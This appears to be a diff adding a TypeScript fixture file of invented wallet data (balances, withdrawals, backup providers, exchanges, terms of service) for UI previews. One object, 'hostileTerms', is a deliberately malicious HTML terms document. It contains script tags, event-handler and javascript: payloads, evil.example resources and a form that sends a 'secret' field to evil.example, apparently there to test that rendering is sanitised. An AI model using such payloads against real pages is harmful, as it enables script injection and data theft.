@@ -1,0 +1,277 @@
+/** Invented people, banks and amounts for the preview. */
+import type {
+  BackupState,
+  Balance,
+  ExchangeView,
+  Home,
+  Provider,
+  Tos,
+  Transaction,
+  WithdrawalOffer,
+} from "../../src/api/views.ts";
+
+/** The moment at which every preview is looked at: a Saturday afternoon. Milliseconds since 1970. */
+export const now = Date.UTC(2026, 10, 21, 13, 12, 30);
+
+export const ago = (seconds: number) => now - seconds * 1000;
+
+const minute = 60;
+const hour = 60 * minute;
+const day = 24 * hour;
+
+export const chf: Balance = { currency: "CHF", available: "CHF:84.2", incoming: "CHF:0" };
+
+export const kudos: Balance = {
+  currency: "KUDOS",
+  available: "KUDOS:12.5",
+  incoming: "KUDOS:5",
+  style: { name: "Kudos", inputDigits: 2, normalDigits: 2, trailingZeroDigits: 2, unitNames: { "0": "ク" } },
+};
+
+export const alpenExchange = "https://exchange.alpen.example/";
+const alpenBank = "https://api.alpenbank.example/taler-integration/";
+
+export const received: Transaction = {
+  id: "withdrawal:received",
+  kind: "withdrawal",
+  state: "done",
+  effective: "CHF:49.9",
+  instructed: "CHF:50",
+  fees: "CHF:0.1",
+  at: ago(2 * hour + 52 * minute),
+  exchange: alpenExchange,
+  bank: alpenBank,
+  canAbort: false,
+  canTakeOver: false,
+  canGoOnWithoutBackup: false,
+};
+
+export const toConfirm: Transaction = {
+  ...received,
+  id: "withdrawal:confirm",
+  state: "waiting",
+  waitsFor: "bankConfirmation",
+  effective: "CHF:19.9",
+  instructed: "CHF:20",
+  at: ago(5 * minute),
+  confirmUrl: "https://ebanking.alpenbank.example/confirm/4711",
+  canAbort: true,
+};
+
+export const toWire: Transaction = {
+  id: "withdrawal:wire",
+  kind: "withdrawal",
+  state: "waiting",
+  waitsFor: "wire",
+  effective: "KUDOS:24.95",
+  instructed: "KUDOS:25",
+  fees: "KUDOS:0.05",
+  at: ago(40 * minute),
+  exchange: "https://taler.genossenschaftsbank-ostschweiz.example/exchange/",
+  wire: {
+    payto: "payto://iban/CH9300762011623852957?amount=KUDOS:25&message=Taler+4RZJ0V6QK1WBE2T3",
+    account: "CH93 0076 2011 6238 5295 7",
+    subject: "Taler 4RZJ0V6QK1WBE2T3M9HD7C8N5P6XYFGA0SVQ1WBE2T3M9HD7C8N5",
+    amount: "KUDOS:25",
+  },
+  canAbort: true,
+  canTakeOver: false,
+  canGoOnWithoutBackup: false,
+};
+
+export const forBackup: Transaction = {
+  ...received,
+  id: "withdrawal:backup",
+  state: "waiting",
+  waitsFor: "backup",
+  at: ago(6 * minute),
+};
+
+const older: readonly Transaction[] = [
+  {
+    ...received,
+    id: "withdrawal:older",
+    effective: "KUDOS:12.5",
+    instructed: "KUDOS:12.5",
+    fees: "KUDOS:0",
+    at: ago(27 * hour),
+    bank: "https://bank.demo.example/",
+  },
+  { ...toWire, id: "withdrawal:cancelled", state: "aborted", at: ago(30 * hour), canAbort: false },
+  { ...received, id: "withdrawal:first", effective: "CHF:34.3", instructed: "CHF:34.4", at: ago(9 * day) },
+];
+
+export const backedUp: BackupState = {
+  kind: "allBackedUp",
+  changes: 0,
+  lastBackup: ago(2 * minute),
+  service: "https://backup.hafen.example/",
+};
+
+export const home: Home = {
+  balances: [chf, kudos],
+  backup: backedUp,
+  transactions: [received, ...older],
+  isNew: false,
+  asksForBackup: false,
+};
+
+export const nothingYet: Home = {
+  balances: [],
+  backup: { kind: "none", changes: 0 },
+  transactions: [],
+  isNew: true,
+  asksForBackup: false,
+};
+
+export const offer: WithdrawalOffer = {
+  link: "taler://withdraw/api.alpenbank.example/taler-integration/invented",
+  bank: alpenBank,
+  amount: "CHF:50",
+  currency: "CHF",
+  exchanges: [alpenExchange],
+  exchange: alpenExchange,
+  effective: "CHF:49.85",
+  fees: "CHF:0.1",
+  rest: "CHF:0.05",
+  coinCount: 12,
+  isAmountFixed: true,
+  tos: "proposed",
+  tosVersion: "v3",
+};
+
+export const hafen: Provider = {
+  url: "https://backup.hafen.example/",
+  name: "Hafen Backup",
+  isActive: true,
+  isPreset: true,
+  annualFee: "CHF:2",
+  storageLimit: 16,
+  liability: "CHF:20",
+  tos: "accepted",
+  tosVersion: "2026-01",
+  lastBackup: ago(2 * minute),
+};
+
+export const tresor: Provider = {
+  ...hafen,
+  url: "https://tresor.genossenschaft-ostschweiz.example/v1/",
+  name: "Genossenschaft Datentresor Ostschweiz",
+  isPreset: false,
+  annualFee: "CHF:1.5",
+  storageLimit: 8,
+  lastBackup: ago(20 * hour),
+  nextTry: ago(-20 * minute),
+  trouble: { code: "unreachable", since: ago(19 * hour) },
+};
+
+export const freies: Provider = {
+  url: "https://sync.freies-netz.example/",
+  name: "Freies Netz Winterthur",
+  isActive: false,
+  isPreset: true,
+  annualFee: "CHF:0",
+  storageLimit: 1,
+  liability: "CHF:0",
+  tos: "proposed",
+  tosVersion: "7",
+};
+
+export const unasked: Provider = {
+  url: "https://archiv.nordlicht.example/",
+  name: "Nordlicht Archiv",
+  isActive: false,
+  isPreset: true,
+};
+
+export const exchanges: readonly ExchangeView[] = [
+  {
+    url: alpenExchange,
+    currency: "CHF",
+    entry: "used",
+    update: "ready",
+    tos: "accepted",
+    lastUpdate: ago(20 * minute),
+  },
+  {
+    url: "https://taler.stadtkasse-rapperswil-jona.example/",
+    currency: "CHF",
+    entry: "used",
+    update: "unavailable-update",
+    tos: "accepted",
+    lastUpdate: ago(3 * day),
+    trouble: { code: "changedMasterKey" },
+  },
+  {
+    url: "https://exchange.demo.example/",
+    currency: "KUDOS",
+    entry: "used",
+    update: "ready",
+    tos: "proposed",
+    lastUpdate: ago(hour),
+  },
+  { url: "https://exchange.nordbank.example/", entry: "preset", update: "initial", tos: "pending" },
+];
+
+const sections = (title: string) => `# ${title}
+
+## 1. What we store
+
+We keep **one encrypted file** of up to 16 MB for each account. We *cannot* read it and do not know who owns it.
+
+- The file is kept while the yearly fee is paid, and for 90 days after.
+- Two copies lie in two places:
+  1. Winterthur
+  2. Tromsø
+
+## 2. What it costs
+
+The fee is 2.00 CHF for each started year, paid in advance. The price list is [on our website](https://backup.hafen.example/prices).
+
+> There is no contract that renews by itself.
+
+## 3. What we cannot promise
+
+Should both copies be lost we pay back the fee of the current year; we are not liable for money that was kept in your wallet.
+`;
+
+export const markdownTerms: Tos = {
+  language: "en",
+  mime: "text/markdown",
+  content: sections("Terms of service"),
+  altLanguages: ["en", "de", "fr"],
+  version: "7",
+};
+
+/** What a document must not be able to do. */
+export const hostileTerms: Tos = {
+  language: "en",
+  mime: "text/html; charset=utf-8",
+  content: `<!doctype html><html><head><title>Terms</title><style>body { display: none }</style>
+    <link rel="stylesheet" href="https://evil.example/style.css"><script>document.title = "taken over"</script></head>
+    <body onload="document.title = 'taken over'"><h1>Terms of this exchange</h1>
+    <p>Read <a href="https://exchange.demo.example/more">more</a> or <a href="javascript:alert(1)">click here</a>.</p>
+    <img src="https://evil.example/pixel.png" onerror="document.title = 'taken over'">
+    <iframe src="https://evil.example/"></iframe><h4>Coins</h4>
+    <ol start="3"><li>Coins that are lost are <b>gone</b>.<li>Keep a <em>backup</em>.</ol>
+    <form action="https://evil.example/"><input name="secret"><button>Continue</button></form>
+    <svg onload="document.title = 'taken over'"><a href="https://evil.example/"><text>x</text></a></svg>
+    <table><tr><th>Fee</th><td>0.10</td></tr></table></body></html>`,
+  altLanguages: [],
+  version: "3",
+};
+
+/** Shown nowhere but here: it opens nothing. */
+const letters = "DGPMQXCFN5PPQZZHHJ4XGFF3MG8NRZCYS3VGHHTM4BBTWXX4F0Y0";
+
+const words =
+  "harbour basket lantern copper meadow violin anchor pepper winter marble garden ticket saddle bridge orange pencil rocket summer valley button window feather candle island";
+
+export const secret = {
+  uris: [
+    `taler://sync/backup.hafen.example#${letters}`,
+    `taler://sync/tresor.genossenschaft-ostschweiz.example/v1#${letters}`,
+  ],
+  words: words.split(" "),
+  services: [hafen.url, tresor.url],
+};
